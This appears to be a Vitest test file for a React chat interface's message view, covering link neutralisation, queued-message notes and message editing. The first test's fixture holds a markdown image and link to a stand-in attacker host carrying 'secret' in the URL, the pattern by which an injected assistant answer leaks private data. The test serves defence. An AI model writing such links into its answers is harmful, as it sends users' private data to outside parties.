// @vitest-environment happy-dom
import { act, createElement, type ReactElement } from "react";
import { expect, test } from "vitest";
import type { AnyChatMessage } from "../../src/chat-message.ts";
import { ChatProvider } from "../../src/settings.tsx";
import { Markdown } from "../../src/markdown/markdown.tsx";
import { MessageView, type MessageViewProps } from "../../src/message/message-view.tsx";
import { render } from "../support/rendered.ts";

const TEXT = "![chart](https://evil.example/secret.png) and [the details](https://evil.example/?q=secret)";

async function linksAfter(metadata: AnyChatMessage["metadata"]): Promise<readonly string[]> {
  const message: AnyChatMessage = {
    id: "m",
    role: "assistant",
    parts: [{ type: "text", text: TEXT }],
    ...(metadata && { metadata }),
  };
  // No button is pressed.
  const props = { message, actions: {} } as unknown as MessageViewProps;
  const view = createElement(MessageView, props);
  const { element } = await render(createElement(ChatProvider, { markdown: Markdown, children: view }));
  expect(element.querySelector("img")).toBeNull();
  expect(element.textContent).toContain("evil.example");
  return [...element.querySelectorAll("a")].map(({ href }) => href);
}

test("links of an answer lead nowhere once the model has read untrusted and private content", async () => {
  expect(await linksAfter({ untrusted: true, private: true })).toEqual([]);
  const link = ["https://evil.example/?q=secret"];
  expect(await linksAfter({ untrusted: true })).toEqual(link);
  expect(await linksAfter({ private: true })).toEqual(link);
  expect(await linksAfter(undefined)).toEqual(link);
});

test.each([
  [undefined, "after this step"],
  // The tools don't name who answers.
  [[], "when somebody has answered"],
  [["support"], "when support has answered"],
  [["legal", "support"], "when legal and support have answered"],
])("a message that waits for %j says when it will be read", async (waitsFor, when) => {
  const message = { id: "q", role: "user", parts: [], metadata: { queued: true, waitsFor } };
  // No button is pressed.
  const props = { message, isQueued: true, actions: {} } as unknown as MessageViewProps;
  const { element } = await render(createElement(MessageView, props));
  expect(element.querySelector(".note")?.textContent).toBe(`Will be read ${when}`);
});

test("what is written into a message that is edited stays when an answer is read meanwhile, and is sent after it", async () => {
  const sent: string[] = [];
  const message: AnyChatMessage = { id: "q", role: "user", parts: [{ type: "text", text: "Hello" }] };
  const actions = { edit: (_message: unknown, text: string) => sent.push(text) };
  const view = (isEditable: boolean): ReactElement =>
    createElement(MessageView, { message, actions, isEditable } as unknown as MessageViewProps);
  const { element, again } = await render(view(true));
  await act(async () => element.querySelector<HTMLElement>("[aria-label='Edit message']")?.click());
  const field = element.querySelector("textarea");
  if (field === null) throw new Error("there is no field");
  // As a browser does: React listens to the event, and takes the value from the field.
  Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, "value")?.set?.call(field, "Good morning");
  await act(async () => field.dispatchEvent(new Event("input", { bubbles: true })));
  const button = (): HTMLButtonElement | null => element.querySelector("[type=submit]");
  expect(button()?.disabled).toBe(false);
  await again(view(false));
  expect(button()?.disabled).toBe(true);
  await again(view(true));
  expect(element.querySelector("textarea")?.value).toBe("Good morning");
  await act(async () => button()?.click());
  expect(sent).toEqual(["Good morning"]);
});
